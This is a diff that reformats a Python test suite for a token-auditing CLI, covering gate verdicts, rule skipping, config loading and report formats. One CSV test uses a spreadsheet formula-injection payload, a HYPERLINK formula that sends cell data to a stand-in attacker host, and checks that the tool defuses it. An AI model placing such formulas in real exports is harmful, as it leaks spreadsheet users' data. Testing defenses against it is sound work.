@@ -5,7 +5,6 @@ CSV read back. Everything runs the real CLI against the session's real OPA."""
 from __future__ import annotations
 
 import csv
-import io
 import json
 import os
 import pty
@@ -67,14 +66,17 @@ def test_verdict_line_says_why_the_gate_failed(cli, gated):
     result = cli("audit", str(HEAD), *gated)
     assert result.returncode == 1
     assert result.stdout.splitlines()[-1] == (
-        "gate: FAIL (fail-on high): 1 new high finding; 1 new below high, 2 in baseline, 1 waived, 1 waiver expired")
+        "gate: FAIL (fail-on high): 1 new high finding; 1 new below high, 2 in baseline, 1 waived, 1 waiver expired"
+    )
 
 
 def test_verdict_line_pass_forms_and_quiet_prints_only_it(cli, gated):
     result = cli("audit", str(HEAD), *gated, "--fail-on", "critical", "--quiet")
     assert result.returncode == 0
-    assert result.stdout == ("gate: PASS (fail-on critical): no new finding at critical or above; "
-                             "2 new below critical, 2 in baseline, 1 waived, 1 waiver expired\n")
+    assert result.stdout == (
+        "gate: PASS (fail-on critical): no new finding at critical or above; "
+        "2 new below critical, 2 in baseline, 1 waived, 1 waiver expired\n"
+    )
     never = cli("audit", str(HEAD), "--fail-on", "never", "-q")
     assert never.returncode == 0
     assert never.stdout == "gate: PASS (fail-on never): 5 new findings, none can fail the gate\n"
@@ -120,8 +122,14 @@ def test_grid_layout_fits_the_width(cli, columns):
 def run_in_pty(args: list[str], env: dict) -> str:
     """Run the CLI with stdout on a pseudo-terminal (isatty() true) and return what it printed."""
     main_fd, child_fd = pty.openpty()
-    process = subprocess.Popen([sys.executable, "-m", "auditor", *args], stdout=child_fd, stderr=subprocess.PIPE,
-                               stdin=subprocess.DEVNULL, cwd=ROOT, env=env)
+    process = subprocess.Popen(
+        [sys.executable, "-m", "auditor", *args],
+        stdout=child_fd,
+        stderr=subprocess.PIPE,
+        stdin=subprocess.DEVNULL,
+        cwd=ROOT,
+        env=env,
+    )
     os.close(child_fd)
     chunks = []
     while True:
@@ -161,19 +169,24 @@ def test_skip_rule_leaves_findings_out_and_lists_the_rule(cli, tmp_path):
     result = cli("audit", str(HEAD), "--skip-rule", "legacy-token", "-f", "json", "-o", str(out))
     report = json.loads(out.read_text())
     assert sorted({f["rule_id"] for f in report["findings"]}) == ["long-lived", "no-expiry"]
-    assert report["policy"]["skipped_rules"] == [{"id": "legacy-token", "title": "Legacy token with account-wide reach",
-                                                  "reason": "skipped by configuration (--skip-rule)"}]
+    assert report["policy"]["skipped_rules"] == [
+        {
+            "id": "legacy-token",
+            "title": "Legacy token with account-wide reach",
+            "reason": "skipped by configuration (--skip-rule)",
+        }
+    ]
     assert "legacy-token" not in report["policy"]["rules"]
     assert report["summary"]["by_rule"] == {"long-lived": 2, "no-expiry": 1}
     jsonschema.validate(report, load_schema("report.v1"))
     assert result.returncode == 1  # no-expiry is high
-    table = cli("audit", str(HEAD), "--skip-rule", "legacy-token", "--skip-rule", "no-expiry",
-                env={"COLUMNS": "200"})
+    table = cli("audit", str(HEAD), "--skip-rule", "legacy-token", "--skip-rule", "no-expiry", env={"COLUMNS": "200"})
     assert table.returncode == 0
     assert "RULES SKIPPED BY CONFIGURATION (2)" in table.stdout
     assert "  legacy-token: skipped by configuration (--skip-rule)" in table.stdout.splitlines()
-    assert table.stdout.splitlines()[-1] == ("gate: PASS (fail-on high): no new finding at high or above; "
-                                             "2 new below high, 2 rules skipped by configuration")
+    assert table.stdout.splitlines()[-1] == (
+        "gate: PASS (fail-on high): no new finding at high or above; 2 new below high, 2 rules skipped by configuration"
+    )
 
 
 def test_only_rule_and_unknown_rule_id(cli, tmp_path):
@@ -184,12 +197,15 @@ def test_only_rule_and_unknown_rule_id(cli, tmp_path):
     assert report["policy"]["rules"] == ["long-lived"]
     skipped = report["policy"]["skipped_rules"]
     assert len(skipped) == 21 and skipped[0] == {
-        "id": "admin-permission", "title": "Organization administration permission",
-        "reason": "skipped by configuration (not in --only-rule)"}
+        "id": "admin-permission",
+        "title": "Organization administration permission",
+        "reason": "skipped by configuration (not in --only-rule)",
+    }
     bad = cli("audit", str(HEAD), "--skip-rule", "legacy-tokens")
     assert bad.returncode == 2 and bad.stdout == ""
-    assert bad.stderr == ("token-auditor: error: --skip-rule: unknown rule id 'legacy-tokens'; "
-                          "`token-auditor rules` lists them\n")
+    assert bad.stderr == (
+        "token-auditor: error: --skip-rule: unknown rule id 'legacy-tokens'; `token-auditor rules` lists them\n"
+    )
 
 
 def test_config_file_found_in_cwd_then_repository_root(cli, tmp_path):
@@ -201,7 +217,8 @@ def test_config_file_found_in_cwd_then_repository_root(cli, tmp_path):
     cli("audit", str(HEAD), "--fail-on", "never", "-f", "json", "-o", str(out), cwd=repo / "sub")
     report = json.loads(out.read_text())
     assert report["policy"]["skipped_rules"][0]["reason"] == (
-        f"skipped by configuration (skip_rules in {repo / '.token-auditor.yaml'})")
+        f"skipped by configuration (skip_rules in {repo / '.token-auditor.yaml'})"
+    )
     assert report["config"] == {"skip_rules": ["legacy-token"]}
     # one in the current directory wins over the repository root's
     write_yaml(repo / "sub" / ".token-auditor.yaml", "only_rules: [no-expiry]\n")
@@ -212,16 +229,18 @@ def test_config_file_found_in_cwd_then_repository_root(cli, tmp_path):
     report = json.loads(out.read_text())
     assert "skipped_rules" not in report["policy"] and report["config"] == {}
     other = write_yaml(tmp_path / "other.yaml", "skip_rules: [long-lived]\n")
-    cli("audit", str(HEAD), "--fail-on", "never", "--config", str(other), "-f", "json", "-o", str(out),
-        cwd=repo / "sub")
+    cli(
+        "audit", str(HEAD), "--fail-on", "never", "--config", str(other), "-f", "json", "-o", str(out), cwd=repo / "sub"
+    )
     assert [s["id"] for s in json.loads(out.read_text())["policy"]["skipped_rules"]] == ["long-lived"]
     both = cli("audit", str(HEAD), "--config", str(other), "--no-config", cwd=repo / "sub")
     assert both.returncode == 2 and "--config and --no-config contradict each other" in both.stderr
 
 
 def test_config_unknown_key_is_one_line_naming_file_and_key(cli, tmp_path):
-    config = write_yaml(tmp_path / ".token-auditor.yaml",
-                        "thresholds:\n  stale_days: 30\n  stail_days: 10\nskip_rule: [legacy-token]\n")
+    config = write_yaml(
+        tmp_path / ".token-auditor.yaml", "thresholds:\n  stale_days: 30\n  stail_days: 10\nskip_rule: [legacy-token]\n"
+    )
     result = cli("audit", str(HEAD), cwd=tmp_path)
     assert result.returncode == 2 and result.stdout == ""
     assert result.stderr.splitlines() == [
@@ -233,8 +252,10 @@ def test_config_unknown_key_is_one_line_naming_file_and_key(cli, tmp_path):
     unknown_rule = write_yaml(tmp_path / ".token-auditor.yaml", "only_rules: [no-such-rule]\n")
     result = cli("audit", str(HEAD), cwd=tmp_path)
     assert result.returncode == 2
-    assert result.stderr == (f"token-auditor: error: only_rules in {unknown_rule}: unknown rule id 'no-such-rule'; "
-                             "`token-auditor rules` lists them\n")
+    assert result.stderr == (
+        f"token-auditor: error: only_rules in {unknown_rule}: unknown rule id 'no-such-rule'; "
+        "`token-auditor rules` lists them\n"
+    )
 
 
 def test_rule_selection_stays_out_of_the_policy_input(tmp_path):
@@ -246,8 +267,11 @@ def test_rule_selection_stays_out_of_the_policy_input(tmp_path):
 def test_version_names_tool_opa_and_catalogue():
     result = run_cli("--version")
     assert result.returncode == 0
-    assert result.stdout.splitlines() == ["token-auditor 0.1.0", f"OPA 1.22.3 ({OPA_BIN})",
-                                          "catalogue 2026.11.29 (2026-11-29)"]
+    assert result.stdout.splitlines() == [
+        "token-auditor 0.1.0",
+        f"OPA 1.22.3 ({OPA_BIN})",
+        "catalogue 2026.11.29 (2026-11-29)",
+    ]
     missing = run_cli("--version", env={"OPA_BIN": "/nonexistent/opa"})
     assert missing.returncode == 0 and "OPA not found" in missing.stdout.splitlines()[1]
 
@@ -265,15 +289,20 @@ def test_csv_reads_back_one_row_per_finding_with_formulas_defused(cli, tmp_path)
     result = cli("audit", str(path), "--fail-on", "never", "-f", "csv", "-o", str(out))
     assert result.returncode == 0, result.stderr
     raw = out.read_bytes()
-    assert raw.startswith(b"state,severity,rule_id,provider,token_name,token_id,owner,message,action,"
-                          b"recommendation,file,pointer,line,waiver_expires,fingerprint\r\n")
+    assert raw.startswith(
+        b"state,severity,rule_id,provider,token_name,token_id,owner,message,action,"
+        b"recommendation,file,pointer,line,waiver_expires,fingerprint\r\n"
+    )
     with open(out, newline="", encoding="utf-8") as handle:
         rows = list(csv.DictReader(handle))
     assert len(rows) == 5
     assert [(r["severity"], r["rule_id"], r["token_id"]) for r in rows] == [
-        ("high", "legacy-token", "tok-legacy-1"), ("high", "no-expiry", "tok-legacy-1"),
-        ("medium", "legacy-token", "tok-legacy-2"), ("medium", "long-lived", "tok-fine-3"),
-        ("medium", "long-lived", "tok-legacy-2")]
+        ("high", "legacy-token", "tok-legacy-1"),
+        ("high", "no-expiry", "tok-legacy-1"),
+        ("medium", "legacy-token", "tok-legacy-2"),
+        ("medium", "long-lived", "tok-fine-3"),
+        ("medium", "long-lived", "tok-legacy-2"),
+    ]
     first = rows[0]
     assert first["token_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
     assert first["owner"] == "'@SUM(1+1)" and first["state"] == "new" and first["provider"] == "huggingface"
@@ -289,9 +318,13 @@ def test_documented_shell_completion_completes_options_and_choices():
     env = {k: v for k, v in os.environ.items() if not k.startswith("COMP_")}
 
     def complete(words: str, index: int) -> list[str]:
-        result = subprocess.run([script], env={**env, "_TOKEN_AUDITOR_COMPLETE": "bash_complete",
-                                               "COMP_WORDS": words, "COMP_CWORD": str(index)},
-                                capture_output=True, text=True, timeout=60)
+        result = subprocess.run(
+            [script],
+            env={**env, "_TOKEN_AUDITOR_COMPLETE": "bash_complete", "COMP_WORDS": words, "COMP_CWORD": str(index)},
+            capture_output=True,
+            text=True,
+            timeout=60,
+        )
         return result.stdout.splitlines()
 
     assert complete("token-auditor audit --sk", 2) == ["plain,--skip-rule"]
@@ -306,8 +339,10 @@ def test_readme_config_example_is_valid(tmp_path):
     config = write_yaml(tmp_path / ".token-auditor.yaml", "thresholds: {stale_days: 60" + example)
     result = run_cli("normalize", str(HEAD), "--now", NOW, cwd=tmp_path)
     assert result.returncode == 0, result.stderr
-    assert json.loads(result.stdout)["config"] == {"thresholds": {"stale_days": 60, "max_lifetime_days": 90},
-                                                   "catalogue": {}}
+    assert json.loads(result.stdout)["config"] == {
+        "thresholds": {"stale_days": 60, "max_lifetime_days": 90},
+        "catalogue": {},
+    }
     assert config.is_file()
 
 
@@ -316,7 +351,8 @@ def test_report_command_renders_the_saved_gate(cli, gated, tmp_path):
     cli("audit", str(HEAD), *gated, "-f", "json", "-o", str(saved))
     counted = run_cli("report", str(saved), "-f", "table", env={"COLUMNS": "200"})
     assert counted.stdout.splitlines()[-1] == (
-        "gate: FAIL (fail-on high): 1 new high finding; 1 new below high, 2 in baseline, 1 waived, 1 waiver expired")
+        "gate: FAIL (fail-on high): 1 new high finding; 1 new below high, 2 in baseline, 1 waived, 1 waiver expired"
+    )
     assert "[baseline]" not in counted.stdout
     every = run_cli("report", str(saved), "-f", "table", "--show", "all", env={"COLUMNS": "200"})
     assert every.stdout.count("[baseline]") == 2 and every.stdout.count("[waived]") == 1
